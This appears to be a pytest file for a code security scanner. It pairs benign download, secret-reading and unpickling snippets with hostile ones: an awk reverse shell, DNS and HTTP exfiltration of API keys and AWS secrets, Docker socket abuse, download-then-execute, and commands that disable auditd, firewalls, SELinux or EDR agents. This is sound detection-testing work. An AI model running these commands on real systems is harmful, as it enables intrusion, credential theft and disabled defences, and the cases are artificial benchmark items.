"""Capability classes of the scanner: everyday downloads, computed names and secret reads rate
low; awk network files, the Docker socket, DNS exfiltration, archive member paths, download
then unpickle, pip from URLs and impaired defences are caught. Each case is also an item of
`benchmarks/scanner/corpus/dev/own_classes.yaml`."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from codeflow_magic.models import Finding, severity_rank
from codeflow_magic.security import scan_code

OWN = Path(__file__).resolve().parents[2] / "benchmarks" / "scanner" / "corpus" / "dev"

# (id, language, code, expected worst severity, benign, rule to check, its severity or None
# when the rule must not be reported)
CASES: list[tuple[str, str, str, str, bool, str | None, str | None]] = [
    (
        "o-dl-requests-params",
        "python",
        "import requests\n"
        'r = requests.get("https://api.example.com/v1/rates", params={"base": "EUR"}, timeout=10)\n'
        'rates = r.json()["rates"]\n',
        "low",
        True,
        "download",
        "low",
    ),
    (
        "o-dl-urlretrieve",
        "python",
        "import urllib.request\n"
        'urllib.request.urlretrieve("https://example.org/data.csv", "data.csv")\n',
        "low",
        True,
        "download",
        "low",
    ),
    (
        "o-dl-curl",
        "bash",
        "mkdir -p data\ncurl -sSLo data/iris.csv https://example.org/iris.csv\n",
        "low",
        True,
        "download",
        "low",
    ),
    (
        "o-dl-bang-wget",
        "ipython",
        "!wget -q https://example.org/data/sales.zip\n!unzip -o sales.zip -d data\n",
        "low",
        True,
        None,
        None,
    ),
    (
        "o-dl-http-ip",
        "python",
        'import requests\nr = requests.get("http://198.51.100.7/feed.json")\n',
        "medium",
        False,
        "download",
        "medium",
    ),
    (
        "o-dl-then-run",
        "bash",
        "curl -fsSL https://example.net/tool -o /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool --daemon\n",
        "critical",
        False,
        "download-run",
        "critical",
    ),
    (
        "o-getattr-agg-loop",
        "python",
        "import pandas as pd\n"
        "df = pd.read_csv('sales.csv')\n"
        "for agg in ['sum', 'mean', 'max']:\n"
        "    print(agg, getattr(df['sales'], agg)())\n",
        "none",
        True,
        "computed-attribute",
        None,
    ),
    (
        "o-getattr-param",
        "python",
        "def summarize(df, how):\n    return getattr(df.groupby('region')['sales'], how)()\n",
        "low",
        True,
        "computed-attribute",
        "low",
    ),
    (
        "o-getattr-numpy",
        "python",
        "import numpy as np\n"
        "x = np.arange(10)\n"
        "for agg in ('min', 'max', 'median'):\n"
        "    print(getattr(np, agg)(x))\n",
        "none",
        True,
        "computed-attribute",
        None,
    ),
    (
        "o-getattr-os-argv",
        "python",
        "import os, sys\ngetattr(os, sys.argv[1])(sys.argv[2])\n",
        "high",
        False,
        "computed-attribute",
        "high",
    ),
    (
        "o-getattr-os-loop-risky",
        "python",
        "import os\nfor name in ['system', 'popen']:\n    getattr(os, name)('id')\n",
        "high",
        False,
        "hidden-attribute",
        "high",
    ),
    (
        "o-import-loop-safe",
        "python",
        "import importlib\n"
        "for name in ['numpy', 'pandas', 'sklearn']:\n"
        "    mod = importlib.import_module(name)\n"
        "    print(name, mod.__version__)\n",
        "none",
        True,
        "computed-import",
        None,
    ),
    (
        "o-import-loop-os",
        "python",
        "import importlib\nfor name in ['os', 'subprocess']:\n    importlib.import_module(name)\n",
        "medium",
        False,
        "hidden-import",
        "medium",
    ),
    (
        "o-import-unknown",
        "python",
        "import importlib, sys\nimportlib.import_module(sys.argv[1])\n",
        "high",
        False,
        "computed-import",
        "high",
    ),
    (
        "o-secret-check",
        "python",
        "import os\n"
        "if not os.environ.get('OPENAI_API_KEY'):\n"
        "    print('Set OPENAI_API_KEY first')\n",
        "low",
        True,
        "secret-variable",
        "low",
    ),
    (
        "o-secret-default",
        "python",
        'import os\ndb_url = os.getenv("DATABASE_URL", "sqlite:///local.db")\n',
        "low",
        True,
        "secret-variable",
        "low",
    ),
    (
        "o-secret-print",
        "python",
        "import os\ntoken = os.environ['GITHUB_TOKEN']\nprint(f'token: {token}')\n",
        "high",
        False,
        "secret-variable",
        "high",
    ),
    (
        "o-secret-write",
        "python",
        "import os\n"
        "with open('keys.txt', 'w') as fh:\n"
        "    fh.write(os.getenv('AWS_SECRET_ACCESS_KEY'))\n",
        "high",
        False,
        "secret-variable",
        "high",
    ),
    (
        "o-secret-auth-params",
        "python",
        "import os, requests\n"
        "api_key = os.getenv('WEATHER_API_KEY')\n"
        "r = requests.get('https://api.example.com/weather', params={'key': api_key, 'q': "
        "'Paris'})\n",
        "low",
        True,
        "secret-auth",
        "low",
    ),
    (
        "o-secret-auth-bearer",
        "python",
        "import os, requests\n"
        "token = os.environ['GITHUB_TOKEN']\n"
        "headers = {'Authorization': f'Bearer {token}'}\n"
        "r = requests.get('https://api.example.com/user', headers=headers, timeout=10)\n",
        "low",
        True,
        "secret-auth",
        "low",
    ),
    (
        "o-secret-in-url",
        "python",
        "import os, requests\n"
        "k = os.getenv('WEATHER_API_KEY')\n"
        "requests.get('https://api.example.com/collect/' + k)\n",
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-secret-auth-plain-http",
        "python",
        "import os, requests\n"
        "k = os.getenv('WEATHER_API_KEY')\n"
        "requests.get('http://198.51.100.3/w', params={'key': k})\n",
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-secret-in-body",
        "python",
        "import os, requests\n"
        "k = os.environ['OPENAI_API_KEY']\n"
        "requests.post('https://api.example.com/v1', json={'data': k})\n",
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-secret-auth-curl",
        "bash",
        'curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.com/user/repos -o '
        "repos.json\n",
        "low",
        True,
        "secret-auth",
        "low",
    ),
    (
        "o-secret-curl-plain-http",
        "bash",
        'curl -H "Authorization: Bearer $GITHUB_TOKEN" http://198.51.100.4/user\n',
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-awk-inet-bash",
        "bash",
        'awk \'BEGIN{s="/inet/tcp/0/192.0.2.9/4444"; while ((s |& getline c) > 0) { while ((c |& '
        "getline l) > 0) print l |& s; close(c) }}'\n",
        "critical",
        False,
        "reverse-shell",
        "critical",
    ),
    (
        "o-awk-inet-bang",
        "ipython",
        '!gawk \'BEGIN{s="/inet/tcp/0/203.0.113.5/9001"; print "hi" |& s}\'\n',
        "critical",
        False,
        "ipython-shell",
        "critical",
    ),
    (
        "o-awk-inet-subprocess",
        "python",
        "import subprocess\n"
        "subprocess.run(['awk', 'BEGIN{s=\"/inet/tcp/0/192.0.2.9/4444\"; print 1 |& s}'])\n",
        "critical",
        False,
        "shell-command",
        "critical",
    ),
    (
        "o-awk-inet-cell",
        "ipython",
        "%%bash\nawk 'BEGIN{s=\"/inet/tcp/0/192.0.2.9/4444\"; print 1 |& s}'\n",
        "critical",
        False,
        "reverse-shell",
        "critical",
    ),
    (
        "o-docker-sock-python",
        "python",
        "import socket\n"
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "s.connect('/var/run/docker.sock')\n"
        "s.sendall(b'GET /containers/json HTTP/1.0\\r\\n\\r\\n')\n",
        "critical",
        False,
        "docker-socket",
        "critical",
    ),
    (
        "o-docker-sock-client",
        "python",
        "import docker\n"
        "client = docker.DockerClient(base_url='unix://run/docker.sock')\n"
        "client.containers.run('alpine', 'id', privileged=True)\n",
        "critical",
        False,
        "docker-socket",
        "critical",
    ),
    (
        "o-docker-sock-curl",
        "bash",
        "curl --unix-socket /var/run/docker.sock http://localhost/containers/json\n",
        "critical",
        False,
        "docker-socket",
        "critical",
    ),
    (
        "o-dns-exfil-python",
        "python",
        "import os, socket, base64\n"
        "k = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode().strip('=')\n"
        "socket.gethostbyname(f'{k}.x.example.com')\n",
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-dns-exfil-resolver",
        "python",
        "import os\n"
        "import dns.resolver\n"
        "dns.resolver.resolve(os.getenv('GITHUB_TOKEN') + '.example.net', 'A')\n",
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-dns-exfil-bash",
        "bash",
        "nslookup $AWS_SECRET_ACCESS_KEY.x.example.org\n",
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-dns-exfil-dig",
        "bash",
        "dig +short $(env | base64 -w0 | cut -c1-60).example.net\n",
        "critical",
        False,
        "exfiltration",
        "critical",
    ),
    (
        "o-dns-loop-benign",
        "bash",
        "for h in www mail; do dig +short $h.example.com; done\n",
        "none",
        True,
        "exfiltration",
        None,
    ),
    (
        "o-dns-plain-python",
        "python",
        "import socket\n"
        "for host in ['example.com', 'example.org']:\n"
        "    print(host, socket.gethostbyname(host))\n",
        "none",
        True,
        "exfiltration",
        None,
    ),
    (
        "o-zip-namelist",
        "python",
        "import zipfile\n"
        "z = zipfile.ZipFile('upload.zip')\n"
        "for n in z.namelist():\n"
        "    open(n, 'wb').write(z.read(n))\n",
        "high",
        False,
        "archive-paths",
        "high",
    ),
    (
        "o-tar-members",
        "python",
        "import os, tarfile\n"
        "with tarfile.open('bundle.tgz') as t:\n"
        "    for m in t.getmembers():\n"
        "        out = os.path.join('out', m.name)\n"
        "        with open(out, 'wb') as fh:\n"
        "            fh.write(t.extractfile(m).read())\n",
        "high",
        False,
        "archive-paths",
        "high",
    ),
    (
        "o-tar-download-extractall",
        "python",
        "import urllib.request, tarfile\n"
        "urllib.request.urlretrieve('https://example.org/d.tgz', 'd.tgz')\n"
        "tarfile.open('d.tgz').extractall('data')\n",
        "high",
        False,
        "archive-paths",
        "high",
    ),
    (
        "o-zip-basename",
        "python",
        "import os, zipfile\n"
        "z = zipfile.ZipFile('upload.zip')\n"
        "for n in z.namelist():\n"
        "    open(os.path.join('out', os.path.basename(n)), 'wb').write(z.read(n))\n",
        "none",
        True,
        "archive-paths",
        None,
    ),
    (
        "o-dl-joblib",
        "python",
        "import urllib.request, joblib\n"
        "urllib.request.urlretrieve('https://example.org/m.joblib', 'm.joblib')\n"
        "model = joblib.load('m.joblib')\n",
        "critical",
        False,
        "pickle-network",
        "critical",
    ),
    (
        "o-dl-requests-pickle",
        "python",
        "import pickle, requests\n"
        "r = requests.get('https://example.org/m.pkl')\n"
        "with open('m.pkl', 'wb') as fh:\n"
        "    fh.write(r.content)\n"
        "with open('m.pkl', 'rb') as fh:\n"
        "    obj = pickle.load(fh)\n",
        "critical",
        False,
        "pickle-network",
        "critical",
    ),
    (
        "o-dl-wget-torch",
        "ipython",
        "!wget -q -O model.pt https://example.org/model.pt\n"
        "import torch\n"
        "m = torch.load('model.pt')\n",
        "critical",
        False,
        "pickle-network",
        "critical",
    ),
    (
        "o-dl-curl-numpy",
        "ipython",
        "!curl -sL -o arr.npy https://example.net/a.npy\n"
        "import numpy as np\n"
        "a = np.load('arr.npy', allow_pickle=True)\n",
        "critical",
        False,
        "pickle-network",
        "critical",
    ),
    (
        "o-dl-wget-read-pickle",
        "ipython",
        "!wget https://example.org/df.pkl\nimport pandas as pd\ndf = pd.read_pickle('df.pkl')\n",
        "critical",
        False,
        "pickle-network",
        "critical",
    ),
    (
        "o-dl-torch-weights-only",
        "ipython",
        "!wget -q -O model.pt https://example.org/model.pt\n"
        "import torch\n"
        "m = torch.load('model.pt', weights_only=True)\n",
        "low",
        True,
        "pickle-network",
        None,
    ),
    (
        "o-pip-subprocess-git",
        "python",
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', "
        "'git+https://example.net/x/helper.git'])\n",
        "high",
        False,
        "pip-main-url",
        "high",
    ),
    (
        "o-pip-bang-index",
        "ipython",
        "!pip install --index-url http://198.51.100.3/simple helper\n",
        "high",
        False,
        "pip-main-url",
        "high",
    ),
    (
        "o-pip-magic-extra-index",
        "ipython",
        "%pip install --extra-index-url https://example.net/simple helper\n",
        "high",
        False,
        "pip-main-url",
        "high",
    ),
    ("o-pip-magic-plain", "ipython", "%pip install seaborn\n", "low", True, "pip-main-url", None),
    (
        "o-pip-bang-pinned",
        "ipython",
        "!pip install -q lightgbm==4.3.0\n",
        "low",
        True,
        "pip-main-url",
        None,
    ),
    (
        "o-defence-setenforce",
        "bash",
        "setenforce 0\n",
        "critical",
        False,
        "impair-defenses",
        "critical",
    ),
    (
        "o-defence-ufw",
        "ipython",
        "!sudo ufw disable\n",
        "critical",
        False,
        "ipython-shell",
        "critical",
    ),
    (
        "o-defence-auditd",
        "bash",
        "systemctl stop auditd\n",
        "critical",
        False,
        "impair-defenses",
        "critical",
    ),
    (
        "o-defence-iptables",
        "python",
        "import os\nos.system('iptables -F')\n",
        "critical",
        False,
        "shell-command",
        "critical",
    ),
    (
        "o-defence-kill-agent",
        "bash",
        "pkill -9 -f falcon-sensor\n",
        "critical",
        False,
        "impair-defenses",
        "critical",
    ),
    (
        "o-defence-proc-kernel",
        "bash",
        "echo 0 > /proc/sys/kernel/randomize_va_space\n",
        "critical",
        False,
        "impair-defenses",
        "critical",
    ),
    (
        "o-defence-status",
        "bash",
        "systemctl status auditd\n",
        "none",
        True,
        "impair-defenses",
        None,
    ),
    (
        "o-guard-pickle-roundtrip",
        "python",
        "import pickle\nclone = pickle.loads(pickle.dumps({'a': 1}))\n",
        "none",
        True,
        None,
        None,
    ),
    ("o-guard-find-pyc", "bash", "find . -name '*.pyc' -delete\n", "low", True, None, None),
    (
        "o-guard-kaggle",
        "ipython",
        "!mkdir -p ~/.kaggle\n!cp kaggle.json ~/.kaggle/ && chmod 600 ~/.kaggle/kaggle.json\n",
        "low",
        True,
        None,
        None,
    ),
    (
        "o-guard-httpbin",
        "python",
        "import requests\nr = requests.post('https://httpbin.org/post', json={'name': 'test'})\n",
        "low",
        True,
        None,
        None,
    ),
    (
        "o-guard-openai",
        "python",
        "import os, openai\nclient = openai.OpenAI(api_key=os.environ.get('OPENAI_API_KEY'))\n",
        "low",
        True,
        None,
        None,
    ),
    (
        "o-guard-tar-filter",
        "python",
        "import tarfile\ntarfile.open('data.tgz').extractall('data', filter='data')\n",
        "none",
        True,
        None,
        None,
    ),
    ("o-look-bang-ls", "ipython", "!ls -la data/\n!nvidia-smi\n", "none", True, None, None),
    (
        "o-look-bash-cell",
        "ipython",
        "%%bash\nhead -5 data.csv | cut -d, -f1\nwc -l data.csv\n",
        "none",
        True,
        None,
        None,
    ),
    (
        "o-look-git-rev",
        "python",
        "import subprocess\nrev = subprocess.run(['git', 'rev-parse', '--short', 'HEAD'], capture_output=True, text=True).stdout\n",
        "none",
        True,
        None,
        None,
    ),
    ("o-look-pip-list", "ipython", "!pip list | grep pandas\n", "none", True, None, None),
    (
        "o-look-writes-stays-low",
        "ipython",
        "!ls -la data/ > listing.txt\n",
        "low",
        True,
        "ipython-shell",
        "low",
    ),
    (
        "o-look-git-push-stays-low",
        "ipython",
        "!git push origin main\n",
        "low",
        True,
        "ipython-shell",
        "low",
    ),
    ("o-look-cat-secret", "ipython", "!cat ~/.aws/credentials\n", "critical", False, None, None),
    (
        "o-own-joblib-round-trip",
        "python",
        "import joblib\njoblib.dump(clf, 'models/tree.joblib')\nclf2 = joblib.load('models/tree.joblib')\n",
        "none",
        True,
        None,
        None,
    ),
    (
        "o-own-torch-round-trip",
        "python",
        "import torch\ntorch.save(model.state_dict(), 'model.pt')\nmodel.load_state_dict(torch.load('model.pt'))\n",
        "none",
        True,
        None,
        None,
    ),
    (
        "o-own-pickle-file-round-trip",
        "python",
        "import pickle\nwith open('state.pkl', 'wb') as f:\n    pickle.dump(state, f)\nwith open('state.pkl', 'rb') as f:\n    state = pickle.load(f)\n",
        "none",
        True,
        None,
        None,
    ),
    (
        "o-own-other-file-stays-low",
        "python",
        "import joblib\njoblib.dump(clf, 'a.joblib')\nother = joblib.load('b.joblib')\n",
        "low",
        True,
        "unpickle-file",
        "low",
    ),
    (
        "o-hub-load",
        "python",
        "import torch\nmodel = torch.hub.load('someuser/detector', 'small', trust_repo=True)\n",
        "high",
        False,
        "remote-code",
        "high",
    ),
    (
        "o-hub-load-local",
        "python",
        "import torch\nmodel = torch.hub.load('./hub', 'small', source='local')\n",
        "none",
        True,
        "remote-code",
        None,
    ),
    (
        "o-trust-remote-code",
        "python",
        "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('someorg/tiny', trust_remote_code=True)\n",
        "high",
        False,
        "remote-code",
        "high",
    ),
    (
        "o-trust-remote-code-off",
        "python",
        "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('someorg/tiny')\n",
        "none",
        True,
        "remote-code",
        None,
    ),
    (
        "o-keras-unsafe",
        "python",
        "import keras\nmodel = keras.models.load_model('clf.keras', safe_mode=False)\n",
        "high",
        False,
        "unpickle-unsafe",
        "high",
    ),
    (
        "o-pip-index-bash",
        "bash",
        "pip install --index-url http://198.51.100.3/simple/ helper\n",
        "high",
        False,
        "pip-index",
        "high",
    ),
    (
        "o-easy-install-url",
        "bash",
        "easy_install http://198.51.100.3/eggs/tool.egg\n",
        "high",
        False,
        "pip-url",
        "high",
    ),
    ("o-tar-absolute", "bash", "tar -xPf bundle.tar\n", "high", False, "archive-paths", "high"),
    (
        "o-env-preload",
        "bash",
        "env LD_PRELOAD=/tmp/libx.so python3 app.py\n",
        "high",
        False,
        "preload",
        "high",
    ),
    (
        "o-run-downloaded-runpy",
        "python",
        "import runpy, urllib.request\nurllib.request.urlretrieve('https://example.org/t.py', 't.py')\nrunpy.run_path('t.py')\n",
        "critical",
        False,
        "download-exec",
        "critical",
    ),
    (
        "o-run-downloaded-spec",
        "python",
        "import importlib.util, urllib.request\nurllib.request.urlretrieve('https://example.org/m.py', 'm.py')\nspec = importlib.util.spec_from_file_location('m', 'm.py')\nspec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
        "critical",
        False,
        "download-exec",
        "critical",
    ),
    (
        "o-run-downloaded-magic",
        "ipython",
        "!wget -q https://example.org/t.py\n%run t.py\n",
        "critical",
        False,
        "download-exec",
        "critical",
    ),
    (
        "o-run-local-module",
        "python",
        "import importlib.util\nspec = importlib.util.spec_from_file_location('helpers', 'src/helpers.py')\n",
        "none",
        True,
        None,
        None,
    ),
    (
        "o-service-token",
        "python",
        "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n",
        "critical",
        False,
        "read-secret",
        "critical",
    ),
    (
        "o-execv-replaces-kernel",
        "python",
        "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])\n",
        "high",
        False,
        "shell-command",
        "high",
    ),
    (
        "o-spawn-inspection",
        "python",
        "import os\nos.spawnv(os.P_WAIT, '/bin/ls', ['ls', 'data'])\n",
        "none",
        True,
        None,
        None,
    ),
    (
        "o-wget-prefix-then-load",
        "ipython",
        "!wget -q -P models https://example.org/m.joblib\nimport joblib\nm = joblib.load('models/m.joblib')\n",
        "critical",
        False,
        "pickle-network",
        "critical",
    ),
]


def _worst(findings: list[Finding]) -> str:
    return findings[0].severity if findings else "none"


@pytest.mark.parametrize(
    ("item_id", "language", "code", "expected", "benign", "rule", "severity"),
    CASES,
    ids=[c[0] for c in CASES],
)
def test_capability_class(
    item_id: str,
    language: str,
    code: str,
    expected: str,
    benign: bool,
    rule: str | None,
    severity: str | None,
) -> None:
    findings = scan_code(code, language)
    shown = [(f.rule, f.severity, f.message) for f in findings]
    worst = _worst(findings)
    if benign:
        assert severity_rank(worst) <= severity_rank(expected), shown
    else:
        assert severity_rank(worst) >= severity_rank(expected), shown
    if rule is not None:
        mine = [f for f in findings if f.rule == rule]
        if severity is None:
            assert not mine, shown
        else:
            assert mine and mine[0].severity == severity, shown


def test_messages_name_what_the_code_does() -> None:
    weather = scan_code(
        "import os, requests\n"
        "api_key = os.getenv('WEATHER_API_KEY')\n"
        "requests.get('https://api.example.com/weather', params={'key': api_key, 'q': 'Paris'})\n"
    )
    assert any(
        f.message == "sends WEATHER_API_KEY to api.example.com to authenticate" for f in weather
    ), weather
    awk = scan_code("awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.9/4444\"; print 1 |& s}'\n", "bash")
    assert "opens a TCP connection to 192.0.2.9:4444 from awk" in awk[0].message
    docker = scan_code("curl --unix-socket /var/run/docker.sock http://localhost/info\n", "bash")
    assert "Docker daemon" in docker[0].message and "root on the host" in docker[0].message
    joblib = scan_code(
        "import urllib.request, joblib\n"
        "urllib.request.urlretrieve('https://example.org/m.joblib', 'm.joblib')\n"
        "model = joblib.load('m.joblib')\n"
    )
    assert joblib[0].message == (
        "joblib.load unpickles m.joblib downloaded from example.org: runs code from the network"
    )
    secret = scan_code("import os\nok = os.getenv('OPENAI_API_KEY') is not None\n")
    assert [(f.rule, f.severity, f.message) for f in secret] == [
        ("secret-variable", "low", "reads the secret variable OPENAI_API_KEY")
    ]


def test_own_corpus_items_match_the_cases() -> None:
    items = {i["id"]: i for i in yaml.safe_load((OWN / "own_classes.yaml").read_text())}
    for item_id, language, code, expected, benign, _rule, _severity in CASES:
        item = items[item_id]
        assert item_id.startswith("o-")
        assert (item["language"], item["code"], item["expected"], item["source"]) == (
            language,
            code,
            expected,
            "own",
        )
        assert bool(item.get("benign", False)) == benign
